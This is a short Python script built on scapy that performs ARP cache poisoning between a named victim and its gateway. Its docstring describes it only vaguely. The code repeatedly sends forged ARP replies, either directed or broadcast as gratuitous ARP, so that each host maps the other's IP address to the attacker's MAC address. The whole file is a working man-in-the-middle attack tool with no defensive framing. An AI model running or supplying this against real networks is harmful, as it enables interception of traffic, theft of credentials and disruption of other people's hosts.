"""Announces to two hosts, by scapy, that the other is here: `arp.py VICTIM GATEWAY INTERVAL SECONDS reply|gratuitous`."""
import sys, time
from scapy.all import ARP, Ether, conf, get_if_hwaddr, getmacbyip, sendp

victim, gateway, interval, seconds, how = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
conf.verb = 0
own = get_if_hwaddr("eth0")
macs = {address: getmacbyip(address) for address in (victim, gateway)}
until = time.time() + seconds
while time.time() < until:
    for target, lie in ((victim, gateway), (gateway, victim)):
        if how == "gratuitous":
            sendp(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=own, psrc=lie, hwdst="ff:ff:ff:ff:ff:ff", pdst=lie), iface="eth0")
        else:
            sendp(Ether(src=own, dst=macs[target]) / ARP(op=2, hwsrc=own, psrc=lie, hwdst=macs[target], pdst=target), iface="eth0")
    time.sleep(interval)
